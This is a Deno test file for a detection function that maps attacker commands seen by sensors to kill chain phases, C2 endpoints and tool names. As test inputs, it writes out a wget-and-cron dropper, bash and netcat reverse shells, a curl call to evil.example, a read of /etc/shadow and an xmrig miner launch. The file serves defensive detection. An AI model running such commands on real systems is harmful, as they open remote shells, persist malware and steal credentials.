import assert from "node:assert/strict";
import { eventFeatures } from "../../../core/attackers/event_features.ts";
import { makeSensorEvent } from "../db/attackers_contract.ts";

const command = (text: string) =>
  eventFeatures(makeSensorEvent({ kind: "command", command: text }));

Deno.test("eventFeatures() maps event kinds to kill chain phases", () => {
  assert.deepEqual(eventFeatures(makeSensorEvent({ kind: "connect" })).ukc_phases, [
    "reconnaissance",
  ]);
  assert.deepEqual(eventFeatures(makeSensorEvent({ kind: "credential" })).ukc_phases, [
    "credential_access",
  ]);
  assert.deepEqual(eventFeatures(makeSensorEvent({ kind: "auth_success" })).ukc_phases, [
    "exploitation",
  ]);
  assert.deepEqual(
    eventFeatures(makeSensorEvent({ kind: "file_transfer", direction: "download" })).ukc_phases,
    ["exfiltration"],
  );
  assert.deepEqual(eventFeatures(makeSensorEvent({ kind: "disconnect" })).ukc_phases, []);
});

Deno.test("eventFeatures() reads phases and endpoints from a dropper one-liner", () => {
  const f = command(
    "cd /tmp; wget http://198.51.100.7:8080/x.sh; chmod +x x.sh; ./x.sh; (crontab -l; echo '* * * * * /tmp/x.sh') | crontab -; history -c",
  );
  // Phases come out in the kill chain's order, whatever the command's.
  assert.deepEqual(f.ukc_phases, ["delivery", "persistence", "defense_evasion", "execution"]);
  assert.deepEqual(f.c2, ["198.51.100.7:8080"]);
  assert.equal(f.tool, undefined);
});

Deno.test("eventFeatures() finds callbacks, discovery, lateral movement and impact", () => {
  const rev = command("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1");
  assert.ok(rev.ukc_phases.includes("command_and_control"));
  assert.deepEqual(rev.c2, ["203.0.113.9:4444"]);
  assert.deepEqual(command("nc -e /bin/sh 203.0.113.9 9001").c2, ["203.0.113.9:9001"]);
  assert.deepEqual(command("curl https://evil.example/a").c2, ["evil.example:443"]);
  assert.deepEqual(command("uname -a").ukc_phases, ["discovery"]);
  assert.deepEqual(command("cat /etc/shadow").ukc_phases, ["credential_access"]);
  assert.ok(command("sshpass -p x ssh root@192.0.2.12").ukc_phases.includes("lateral_movement"));
  assert.ok(command("sudo -l").ukc_phases.includes("privilege_escalation"));
  assert.deepEqual(command("./xmrig -o pool:3333").ukc_phases, ["execution", "impact"]);
  assert.deepEqual(command("echo hello").ukc_phases, []);
});

Deno.test("eventFeatures() names known tools from idents and user agents", () => {
  assert.equal(
    eventFeatures(makeSensorEvent({ client_ident: "SSH-2.0-libssh_0.9.6" })).tool,
    "ssh-library",
  );
  assert.equal(
    eventFeatures(
      makeSensorEvent({ user_agent: "Mozilla/5.0 (compatible; Nmap Scripting Engine)" }),
    )
      .tool,
    "nmap",
  );
  assert.equal(
    eventFeatures(makeSensorEvent({ client_ident: "SSH-2.0-OpenSSH_9.2p1" })).tool,
    undefined,
  );
});
